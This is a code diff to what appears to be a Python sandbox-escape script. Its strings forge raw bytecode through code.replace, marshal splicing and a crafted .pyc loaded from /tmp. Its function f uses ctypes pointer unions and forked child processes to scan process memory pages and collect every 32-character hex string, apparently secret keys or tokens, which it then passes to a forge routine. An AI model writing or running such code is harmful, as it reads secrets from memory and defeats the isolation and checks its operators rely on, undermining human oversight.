@@ -100,9 +100,10 @@ def f(*arguments):
 """
 )
 _REPLACE = "template.__code__.replace(co_code=code, co_varnames=('x',), co_nlocals=1, co_stacksize=8)"
+_MAKER = f"def made(code): return {_REPLACE}"
 _MADE = {
-    "code.replace": f"def made(code): return {_REPLACE}",
-    "code.replace under another file name": f"space = dict(template=template)\nexec(compile('def made(code): return {_REPLACE}', types.__file__, 'exec'), space)\nmade = space['made']",
+    "code.replace": _MAKER,
+    "code.replace under another file name": f"space = dict(template=template)\nexec(compile({_MAKER!r}, types.__file__, 'exec'), space)\nmade = space['made']",
     "marshal.loads": "import marshal\ndef made(code): return marshal.loads(marshal.dumps(template.__code__).replace(raw, code + bytes(len(raw) - len(code))) if len(raw) >= len(code) else marshal.dumps(padded.__code__).replace(padded.__code__.co_code, code + bytes([9, 0]) * ((len(padded.__code__.co_code) - len(code)) // 2)))\ndef padded():\n  x = None; x = None; x = None; x = None; x = None; x = None\n  return x",
     "a .pyc by SourcelessFileLoader": "import marshal, importlib.util, importlib.machinery\ndef padded():\n  x = None; x = None; x = None; x = None; x = None; x = None\n  return x\ndef made(code):\n  whole = compile('def padded():\\n  x = None; x = None; x = None; x = None; x = None; x = None\\n  return x', 'p', 'exec')\n  inner = padded.__code__.co_code\n  data = marshal.dumps(whole).replace(inner, code + bytes([9, 0]) * ((len(inner) - len(code)) // 2))\n  open('/tmp/p.pyc', 'wb').write(importlib.util.MAGIC_NUMBER + bytes(12) + data)\n  module = types.ModuleType('p')\n  importlib.machinery.SourcelessFileLoader('p', '/tmp/p.pyc').exec_module(module)\n  return module.padded.__code__",
 }  # fmt: skip
@@ -118,13 +119,26 @@ def own(name):
 def f(*arguments):
     try:
         module = own("other._ctypes")
-        data = b""
         class Byte(module._SimpleCData): _type_ = "c"
-        for line in open("/proc/self/maps"):
-            start, end = (int(part, 16) for part in line.split()[0].split("-"))
-            if "rw" in line and end - start < 64 << 20 and "[v" not in line:
-                held = type("Many", (module.Array,), {"_type_": Byte, "_length_": end - start}).from_address(start)
-                data += b" ".join(re.findall(rb"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])", bytes(held))) + b" "
+        Page = type("Page", (module.Array,), {"_type_": Byte, "_length_": 4096})
+        class Number(module._SimpleCData): _type_ = "L"
+        class Pointer(module._Pointer): _type_ = Page
+        class Both(module.Union): _fields_ = [("number", Number), ("pointer", Pointer)]
+        data, both = b"", Both()
+        held = [os.urandom(32) for _ in range(3000)] + list(globals().values()) + list(sys.modules.values())
+        for near in {id(one) >> 20: one for one in held}.values():
+            for step in (-4096, 4096):  # each way until there is no memory: the process that finds out is another
+                mine, theirs = os.pipe()
+                if os.fork() == 0:
+                    at = id(near) & ~4095
+                    for _ in range(256):
+                        both.number = at
+                        for word in re.findall(rb"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])", bytes(both.pointer.contents)): os.write(theirs, word + b" ")
+                        at += step
+                    os._exit(0)
+                os.close(theirs)
+                while got := os.read(mine, 4096): data += got
+                os.wait()
         forge(data)
     finally: os._exit(0)
 """
